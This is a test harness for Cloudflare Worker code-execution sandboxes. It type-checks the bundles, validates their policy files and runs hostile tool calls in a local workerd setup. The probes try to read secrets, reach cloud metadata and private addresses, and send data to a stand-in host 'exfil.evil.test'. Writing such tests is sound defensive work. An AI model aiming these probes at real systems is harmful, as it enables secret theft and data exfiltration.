// wasm-worker-check.mjs: the "wasm-worker" check of the wasm-isolate
// family's Cloudflare bundles.  Usage: node wasm-worker-check.mjs FILE...
//
// Per bundle (the folder holding VERIFIED.md above each file), once:
//  1. tsc --strict over deploy/src/index.ts, monitoring/tail.ts and
//     integration/agentWorker.ts against @cloudflare/workers-types;
//  2. security/sandbox-policy.json and network/egress-policy.json against
//     their JSON Schemas (ajv);
//  3. the TypeScript transpiled and run in workerd (npm workerd, the
//     runtime Cloudflare open-sourced; its Worker Loader needs
//     --experimental locally) with the settings of deploy/wrangler.toml:
//     the sandbox Worker on a socket, its egress going to a fake internet,
//     its tail the bundle's tail Worker posting to a fake webhook, the
//     agent Worker bound to it by a service binding, and a unit-test
//     Worker (wasm-worker-unit.js) importing the bundle's modules;
//  4. hostile tool calls through the API (see cases below), each finding
//     attributed to the file it proves wrong.
// Not tested: the CPU and subrequest limits (workerd does not enforce
// them; a CPU loop would hang the local runtime).  workerd is killed with
// SIGKILL at the end whatever happens.

import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import net from "node:net";
import { spawn, execFileSync } from "node:child_process";
import ts from "typescript";
import Ajv from "ajv";
import { runCheck, LIB, TOP } from "./common.mjs";

const WORKERD = path.join(TOP, "tests/node_modules/@cloudflare/workerd-linux-64/bin/workerd");
const TYPES = path.join(TOP, "tests/node_modules/@cloudflare");
const TOKEN = "t".repeat(48);

const F = {
	index: "deploy/src/index.ts",
	tail: "monitoring/tail.ts",
	agent: "integration/agentWorker.ts",
	policy: "security/sandbox-policy.json",
	egress: "network/egress-policy.json",
};
const KNOWN = new Set(Object.values(F));

const POLICY_SCHEMA = {
	type: "object",
	additionalProperties: false,
	required: ["compatibility_date", "cpu_ms", "subrequests", "wall_clock_ms", "max_code_bytes", "max_output_bytes", "languages"],
	properties: {
		$comment: { type: "string" },
		compatibility_date: { type: "string", pattern: "^\\d{4}-\\d{2}-\\d{2}$" },
		// Workers Paid allows up to 5 minutes of CPU per invocation.
		cpu_ms: { type: "integer", minimum: 1, maximum: 300000 },
		subrequests: { type: "integer", minimum: 0, maximum: 10000 },
		wall_clock_ms: { type: "integer", minimum: 100, maximum: 900000 },
		max_code_bytes: { type: "integer", minimum: 1, maximum: 10485760 },
		max_output_bytes: { type: "integer", minimum: 1, maximum: 33554432 },
		languages: { type: "array", minItems: 1, uniqueItems: true, items: { enum: ["javascript"] } },
	},
};
const EGRESS_SCHEMA = {
	type: "object",
	additionalProperties: false,
	required: ["mode", "allow_hosts", "allow_http"],
	properties: {
		$comment: { type: "string" },
		mode: { enum: ["deny-all", "allowlist", "open-public"] },
		allow_hosts: { type: "array", uniqueItems: true, items: { type: "string", pattern: "^(\\*\\.)?[a-z0-9]([a-z0-9.-]*[a-z0-9])?$" } },
		allow_http: { type: "boolean" },
	},
	allOf: [
		{ if: { properties: { mode: { const: "allowlist" } } }, then: { properties: { allow_hosts: { type: "array", minItems: 1 } } } },
		{ if: { properties: { mode: { enum: ["deny-all", "open-public"] } } }, then: { properties: { allow_hosts: { type: "array", maxItems: 0 } } } },
	],
};

function bundleRoot(file) {
	for (let d = path.dirname(file); d !== path.dirname(d); d = path.dirname(d)) {
		if (fs.existsSync(path.join(d, "VERIFIED.md"))) return d;
	}
	return null;
}

// 1. Type-check the Workers' TypeScript.  The parsed library and
// workers-types declarations are shared between the bundles' programs.
const TS_OPTIONS = {
	strict: true, noEmit: true, target: ts.ScriptTarget.ES2022, module: ts.ModuleKind.ESNext,
	moduleResolution: ts.ModuleResolutionKind.Bundler, resolveJsonModule: true,
	lib: ["lib.es2023.d.ts"], typeRoots: [TYPES], types: ["workers-types"],
	noUnusedLocals: true, noImplicitOverride: true, noFallthroughCasesInSwitch: true,
	skipLibCheck: true, isolatedModules: true,
};
const libCache = new Map();
const tsHost = ts.createCompilerHost(TS_OPTIONS);
const plainGet = tsHost.getSourceFile.bind(tsHost);
tsHost.getSourceFile = (name, lang, ...rest) => {
	if (!name.includes("/node_modules/")) return plainGet(name, lang, ...rest);
	if (!libCache.has(name)) libCache.set(name, plainGet(name, lang, ...rest));
	return libCache.get(name);
};

function typecheck(root, add) {
	const names = [F.index, F.tail, F.agent].map((f) => path.join(root, f)).filter((f) => fs.existsSync(f));
	const prog = ts.createProgram(names, TS_OPTIONS, tsHost);
	for (const d of ts.getPreEmitDiagnostics(prog)) {
		const msg = ts.flattenDiagnosticMessageText(d.messageText, " ");
		if (d.file && d.file.fileName.startsWith(root + path.sep)) {
			const rel = path.relative(root, d.file.fileName);
			const { line, character } = d.file.getLineAndCharacterOfPosition(d.start ?? 0);
			add(KNOWN.has(rel) ? rel : F.index, `tsc ${rel}:${line + 1}:${character + 1}: ${msg}`);
		} else {
			add(F.index, `tsc: ${msg}`);
		}
	}
}

function readJson(root, rel, add) {
	try {
		return JSON.parse(fs.readFileSync(path.join(root, rel), "utf8"));
	} catch (e) {
		add(rel, `JSON: ${e.message}`);
		return null;
	}
}

function freePort() {
	return new Promise((resolve, reject) => {
		const s = net.createServer();
		s.on("error", reject);
		s.listen(0, "127.0.0.1", () => {
			const p = s.address().port;
			s.close(() => resolve(p));
		});
	});
}

// The wrangler.toml settings the workerd run uses (compatibility date and
// flags), read with Python's tomllib like the wasm-wrangler check.
function wranglerSettings(root) {
	const out = execFileSync("/usr/bin/python3", ["-c",
		"import json,sys,tomllib; c=tomllib.load(open(sys.argv[1],'rb')); " +
		"print(json.dumps({'date': c.get('compatibility_date'), 'flags': c.get('compatibility_flags', []), " +
		"'loaders': [b.get('binding') for b in c.get('worker_loaders', [])]}))",
		path.join(root, "deploy/wrangler.toml")], { encoding: "utf8", timeout: 20000 });
	return JSON.parse(out);
}

const capStr = (s) => JSON.stringify(s);
const capList = (l) => "[" + l.map(capStr).join(", ") + "]";

function configText(ports, settings) {
	const flags = capList(settings.flags);
	const date = capStr(settings.date);
	const loader = (policy) => `(
    modules = [
      (name = "deploy/src/index.js", esModule = embed "deploy/src/index.js"),
      (name = "security/sandbox-policy.json", json = embed "${policy}"),
      (name = "network/egress-policy.json", json = embed "network/egress-policy.json"),
    ],
    compatibilityDate = ${date},
    compatibilityFlags = ${flags},
    bindings = [
      (name = ${capStr(settings.loaders[0] ?? "LOADER")}, workerLoader = ()),
      (name = "AGENT_TOKEN", text = ${capStr(TOKEN)}),
    ],
    globalOutbound = "fake-internet",
    tails = ["tail"],
  )`;
	return `using Workerd = import "/workerd/workerd.capnp";
const config :Workerd.Config = (
  services = [
    (name = "loader", worker = ${loader("security/sandbox-policy.json")}),
    (name = "loader-fast", worker = ${loader("security/sandbox-policy.fast.json")}),
    (name = "fake-internet", worker = (
      modules = [(name = "internet.js", esModule = embed "internet.js")],
      compatibilityDate = ${date},
    )),
    (name = "webhook", worker = (
      modules = [(name = "webhook.js", esModule = embed "webhook.js")],
      compatibilityDate = ${date},
    )),
    (name = "tail", worker = (
      modules = [(name = "monitoring/tail.js", esModule = embed "monitoring/tail.js")],
      compatibilityDate = ${date},
      compatibilityFlags = ${flags},
      bindings = [(name = "ALERT_WEBHOOK_URL", text = "https://alerts.test/hook")],
      globalOutbound = "webhook",
    )),
    (name = "agent", worker = (
      modules = [(name = "integration/agentWorker.js", esModule = embed "integration/agentWorker.js")],
      compatibilityDate = ${date},
      bindings = [
        (name = "SANDBOX", service = "loader"),
        (name = "SANDBOX_API_TOKEN", text = ${capStr(TOKEN)}),
      ],
    )),
    (name = "unit", worker = (
      modules = [
        (name = "unit.js", esModule = embed "unit.js"),
        (name = "deploy/src/index.js", esModule = embed "deploy/src/index.js"),
        (name = "security/sandbox-policy.json", json = embed "security/sandbox-policy.json"),
        (name = "network/egress-policy.json", json = embed "network/egress-policy.json"),
        (name = "monitoring/tail.js", esModule = embed "monitoring/tail.js"),
        (name = "integration/agentWorker.js", esModule = embed "integration/agentWorker.js"),
      ],
      compatibilityDate = ${date},
      compatibilityFlags = ${flags},
      bindings = [(name = "LOADER", workerLoader = ())],
    )),
  ],
  sockets = [
    (name = "loader", address = "127.0.0.1:${ports.loader}", http = (), service = "loader"),
    (name = "loader-fast", address = "127.0.0.1:${ports.fast}", http = (), service = "loader-fast"),
    (name = "webhook", address = "127.0.0.1:${ports.webhook}", http = (), service = "webhook"),
    (name = "agent", address = "127.0.0.1:${ports.agent}", http = (), service = "agent"),
    (name = "unit", address = "127.0.0.1:${ports.unit}", http = (), service = "unit"),
  ],
);
`;
}

// The fake internet behind the egress gateway: answers for any host.
const INTERNET = `export default {
  async fetch(request) {
    const u = new URL(request.url);
    if (u.pathname === "/redirect") return Response.redirect("http://169.254.169.254/latest/meta-data/", 302);
    return Response.json({ reached: u.hostname, path: u.pathname });
  },
};`;
// The fake alert receiver: keeps what it was sent; GET lists it.
const WEBHOOK = `const got = [];
export default {
  async fetch(request) {
    if (request.method === "POST") { got.push(await request.json()); return new Response("ok"); }
    return Response.json(got);
  },
};`;

function transpile(root, dir, rel) {
	const src = fs.readFileSync(path.join(root, rel), "utf8");
	const out = ts.transpileModule(src, { compilerOptions: {
		target: ts.ScriptTarget.ES2022, module: ts.ModuleKind.ESNext, useDefineForClassFields: true } });
	const dst = path.join(dir, rel.replace(/\.ts$/, ".js"));
	fs.mkdirSync(path.dirname(dst), { recursive: true });
	fs.writeFileSync(dst, out.outputText);
}

async function http(port, method, p, body, { token = TOKEN, timeout = 20000 } = {}) {
	const headers = { "Content-Type": "application/json" };
	if (token) headers.Authorization = `Bearer ${token}`;
	const r = await fetch(`http://127.0.0.1:${port}${p}`, {
		method, headers, body: body === undefined ? undefined : JSON.stringify(body),
		signal: AbortSignal.timeout(timeout),
	});
	const text = await r.text();
	let json = null;
	try { json = JSON.parse(text); } catch { /* not JSON */ }
	return { status: r.status, text, json };
}

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

// 4. The hostile calls.  `expect(file, ok, what)` records a finding.
async function cases(ports, policy, egress, expect) {
	const L = ports.loader;
	let r = await http(L, "GET", "/healthz", undefined, { token: "" });
	expect(F.index, r.status === 200, `GET /healthz: ${r.status}`);
	r = await http(L, "POST", "/v1/sandboxes", {}, { token: "" });
	expect(F.index, r.status === 401, `no token: want 401, got ${r.status}`);
	r = await http(L, "POST", "/v1/sandboxes", {}, { token: "x".repeat(48) });
	expect(F.index, r.status === 401, `wrong token: want 401, got ${r.status}`);
	r = await http(L, "POST", "/v1/sandboxes", { language: "javascript" });
	const id = r.json?.id;
	expect(F.index, r.status === 201 && typeof id === "string", `create: ${r.status} ${r.text.slice(0, 200)}`);
	if (typeof id !== "string") return;
	const exec = (code, extra = {}, port = L) =>
		http(port, "POST", `/v1/sandboxes/${id}/exec`, { language: "javascript", code, ...extra });

	r = await exec("console.log(1 + 1); console.error('e');");
	expect(F.index, r.json?.stdout === "2\n" && r.json?.stderr === "e\n" && r.json?.exit_code === 0,
		`console capture: ${r.text.slice(0, 300)}`);
	r = await exec("throw new Error('boom');");
	expect(F.index, r.json?.exit_code === 1 && /boom/.test(r.json?.stderr ?? ""), `exception: ${r.text.slice(0, 300)}`);
	r = await exec("export default ({ stdin, env }) => stdin.toUpperCase() + env.X;", { stdin: "abc", env: { X: "1" } });
	expect(F.index, r.json?.stdout === "ABC1\n", `stdin and env: ${r.text.slice(0, 300)}`);

	// No secret and no binding reaches the code.
	r = await exec(`
		const seen = [];
		try { seen.push(JSON.stringify(process.env)); } catch (e) { seen.push("no process"); }
		for (const k of Object.getOwnPropertyNames(globalThis)) { try { seen.push(k + "=" + String(globalThis[k]).slice(0, 80)); } catch {} }
		export default (ctx) => JSON.stringify({ keys: Object.keys(ctx.env), seen: seen.join(" ") });`);
	expect(F.index, r.status === 200 && !r.text.includes(TOKEN) && !/LOADER|AGENT_TOKEN/.test(r.text),
		`secrets or bindings visible to the code: ${r.text.slice(0, 300)}`);

	// Egress.
	const allowed = egress.allow_hosts.find((h) => !h.startsWith("*.")) ?? "example.com";
	const targets = [
		[`https://${allowed}/simple/`, egress.mode !== "deny-all" ? "reach" : "blocked"],
		["http://169.254.169.254/latest/meta-data/", "blocked"],
		["https://10.0.0.1/", "blocked"],
		["https://192.168.1.1/", "blocked"],
		["https://localhost/", "blocked"],
		[`https://${allowed}:8443/`, "blocked"],
		[`https://${allowed}/redirect`, "blocked-final"],
		["https://exfil.evil.test/upload", egress.mode === "open-public" ? "reach" : "blocked"],
	];
	const code = `
		const urls = ${JSON.stringify(targets.map((t) => t[0]))};
		export default async () => {
			const out = [];
			for (const u of urls) {
				try { const r = await fetch(u); out.push({ u, status: r.status, body: (await r.text()).slice(0, 200) }); }
				catch (e) { out.push({ u, error: String(e && e.message || e) }); }
			}
			return JSON.stringify(out);
		};`;
	r = await exec(code);
	let res = null;
	try { res = JSON.parse(r.json?.stdout ?? "null"); } catch { /* reported below */ }
	expect(F.index, Array.isArray(res), `egress probe did not run: ${r.text.slice(0, 300)}`);
	for (const [i, [u, want]] of targets.entries()) {
		const g = res?.[i];
		if (!g) continue;
		const reached = g.status === 200 && /"reached"/.test(g.body ?? "");
		const file = want === "reach" ? F.egress : F.index;
		if (want === "reach") {
			expect(file, reached, `${u} should reach the internet: ${JSON.stringify(g)}`);
		} else {
			expect(file, !reached, `${u} reached the internet: ${JSON.stringify(g)}`);
			if (egress.mode === "deny-all") expect(F.index, g.error !== undefined, `${u} did not throw under deny-all: ${JSON.stringify(g)}`);
			else expect(F.index, g.status === 403, `${u} not refused by the gateway: ${JSON.stringify(g)}`);
		}
	}
	// Raw TCP.
	r = await exec(`import { connect } from "cloudflare:sockets";
		export default async () => {
			try {
				const s = connect("exfil.evil.test:443");
				const t = new Promise((_, rej) => setTimeout(() => rej(new Error("connect timed out")), 3000));
				await Promise.race([s.opened, t]);
				return "OPENED";
			} catch (e) { return "refused: " + (e && e.message || e); }
		};`);
	expect(F.index, r.status === 200 && !/OPENED/.test(r.json?.stdout ?? "OPENED"), `connect() was not refused: ${r.text.slice(0, 300)}`);

	// Limits of the request itself.
	r = await exec("x".repeat(policy.max_code_bytes + 1));
	expect(F.policy, r.status === 413, `oversized code: want 413, got ${r.status}`);
	r = await http(L, "POST", `/v1/sandboxes/${id}/exec`, { language: "python", code: "print(1)" });
	expect(F.index, r.status === 400 && r.json?.error === "unsupported_language", `python: ${r.status} ${r.text.slice(0, 200)}`);
	r = await exec(`export default () => "y".repeat(${policy.max_output_bytes + 100});`);
	expect(F.policy, r.status === 200 && (r.json?.stdout ?? "").length <= policy.max_output_bytes + 20 &&
		/\[truncated\]/.test(r.json?.stdout ?? ""), `output cap: ${r.status} length ${(r.json?.stdout ?? "").length}`);
	// Wall-clock deadline (the fast loader's copy of the policy: 1500 ms):
	// a sleep far longer than the deadline, and a promise that never
	// settles (workerd may detect that one itself; either way it must end).
	let t0 = Date.now();
	r = await exec("export default () => new Promise((r) => setTimeout(r, 600000));", {}, ports.fast);
	let ms = Date.now() - t0;
	expect(F.index, r.json?.exit_code === 124 && ms < 10000, `sleeping past the deadline: exit ${r.json?.exit_code} after ${ms} ms ${r.text.slice(0, 200)}`);
	t0 = Date.now();
	r = await exec("await new Promise(() => {});", {}, ports.fast);
	ms = Date.now() - t0;
	expect(F.index, (r.json?.exit_code === 124 || r.json?.exit_code === 1) && ms < 10000,
		`never-settling promise: exit ${r.json?.exit_code} after ${ms} ms`);
	r = await http(L, "DELETE", `/v1/sandboxes/${id}`);
	expect(F.index, r.status === 204, `DELETE: ${r.status}`);

	// The tail Worker's alerts reached the webhook.
	const want = ["sandbox_deadline"];
	if (egress.mode !== "deny-all") want.push("egress_denied");
	let alerts = [];
	for (let i = 0; i < 40; i++) {
		const w = await http(ports.webhook, "GET", "/", undefined, { token: "" });
		alerts = (w.json ?? []).flatMap((b) => b.alerts ?? []);
		if (want.every((e) => alerts.some((a) => a.event === e))) break;
		await sleep(250);
	}
	for (const e of want) {
		expect(F.tail, alerts.some((a) => a.event === e), `no ${e} alert reached the webhook (got ${JSON.stringify(alerts).slice(0, 300)})`);
	}

	// The agent Worker, end to end over the service binding.
	r = await http(ports.agent, "POST", "/tool/run_code", { code: "console.log('from the agent')" }, { token: "" });
	expect(F.agent, r.json?.stdout === "from the agent\n" && r.json?.exitCode === 0, `agent tool call: ${r.status} ${r.text.slice(0, 300)}`);

	// Unit tests inside workerd.
	r = await http(ports.unit, "GET", "/", undefined, { token: "", timeout: 30000 });
	expect(F.index, Array.isArray(r.json), `unit tests did not run: ${r.text.slice(0, 300)}`);
	for (const t of r.json ?? []) {
		expect(KNOWN.has(t.file) ? t.file : F.index, t.ok, `${t.name}: ${t.detail}`.slice(0, 300));
	}
}

async function runWorkerd(root, policy, egress, add) {
	const dir = fs.mkdtempSync(path.join(os.tmpdir(), "atlas-wasm-worker-"));
	let child = null;
	try {
		for (const rel of [F.index, F.tail, F.agent]) transpile(root, dir, rel);
		for (const rel of [F.policy, F.egress]) {
			fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
			fs.copyFileSync(path.join(root, rel), path.join(dir, rel));
		}
		fs.writeFileSync(path.join(dir, "security/sandbox-policy.fast.json"), JSON.stringify({ ...policy, wall_clock_ms: 1500 }));
		fs.writeFileSync(path.join(dir, "internet.js"), INTERNET);
		fs.writeFileSync(path.join(dir, "webhook.js"), WEBHOOK);
		fs.copyFileSync(path.join(LIB, "wasm-worker-unit.js"), path.join(dir, "unit.js"));
		const settings = wranglerSettings(root);
		const ports = { loader: await freePort(), fast: await freePort(), webhook: await freePort(),
			agent: await freePort(), unit: await freePort() };
		fs.writeFileSync(path.join(dir, "config.capnp"), configText(ports, settings));
		let log = "";
		child = spawn(WORKERD, ["serve", "--experimental", "config.capnp"], { cwd: dir, stdio: ["ignore", "pipe", "pipe"] });
		child.stdout.on("data", (d) => { log += d; });
		child.stderr.on("data", (d) => { log += d; });
		let exited = null;
		child.on("exit", (c, s) => { exited = `${c ?? s}`; });
		let up = false;
		for (let i = 0; i < 80 && exited === null && !up; i++) {
			await sleep(125);
			try { up = (await http(ports.loader, "GET", "/healthz", undefined, { token: "", timeout: 1000 })).status === 200; } catch { /* not yet */ }
		}
		if (!up) {
			add("*", `workerd did not start (exit ${exited}): ${log.replace(/\s+/g, " ").slice(0, 400)}`);
			return;
		}
		await cases(ports, policy, egress, (file, ok, what) => { if (!ok) add(file, what); });
	} finally {
		if (child && child.exitCode === null) child.kill("SIGKILL");
		fs.rmSync(dir, { recursive: true, force: true });
	}
}

// Type checks and schemas run one bundle at a time (CPU); the workerd
// runs, mostly waiting, up to RUNS at once.
const RUNS = 4;

async function checkBundle(root, files, report, slot) {
	const findings = new Map();
	const add = (rel, msg) => {
		if (!findings.has(rel)) findings.set(rel, []);
		findings.get(rel).push(msg);
	};
	for (const rel of Object.values(F)) {
		if (!fs.existsSync(path.join(root, rel))) add(rel, `${rel} missing from the bundle`);
	}
	if (!fs.existsSync(WORKERD)) add("*", `workerd not installed (${WORKERD}): run npm ci in tests/`);
	if (!fs.existsSync(path.join(root, "deploy/wrangler.toml"))) add("*", "deploy/wrangler.toml missing: no settings to run with");
	if (findings.size === 0) {
		typecheck(root, add);
		const ajv = new Ajv({ allErrors: true, strict: true });
		const policy = readJson(root, F.policy, add);
		const egress = readJson(root, F.egress, add);
		for (const [rel, v, s] of [[F.policy, policy, POLICY_SCHEMA], [F.egress, egress, EGRESS_SCHEMA]]) {
			if (v !== null && !ajv.validate(s, v)) add(rel, `schema: ${ajv.errorsText(ajv.errors)}`);
		}
		if (policy && egress && !findings.has(F.policy) && !findings.has(F.egress)) {
			await slot(() => runWorkerd(root, policy, egress, add));
		}
	}
	const all = findings.get("*") ?? [];
	for (const f of files) {
		const rel = path.relative(root, f);
		if (!KNOWN.has(rel)) {
			report.add(f, `not a file the wasm-worker check knows (${rel})`);
			continue;
		}
		for (const m of [...all, ...(findings.get(rel) ?? [])]) report.add(f, m);
	}
}

await runCheck("wasm-worker", async (files, report) => {
	const roots = new Map();
	for (const f of files) {
		const r = bundleRoot(f);
		if (r === null) {
			report.add(f, "not inside a bundle (no VERIFIED.md above it)");
			continue;
		}
		if (!roots.has(r)) roots.set(r, []);
		roots.get(r).push(f);
	}
	let running = 0;
	const waiting = [];
	const slot = async (fn) => {
		while (running >= RUNS) await new Promise((r) => waiting.push(r));
		running++;
		try { return await fn(); } finally { running--; waiting.shift()?.(); }
	};
	const all = [];
	for (const [root, fs2] of roots) {
		all.push(checkBundle(root, fs2, report, slot));
		await new Promise((r) => setImmediate(r));
	}
	await Promise.all(all);
});
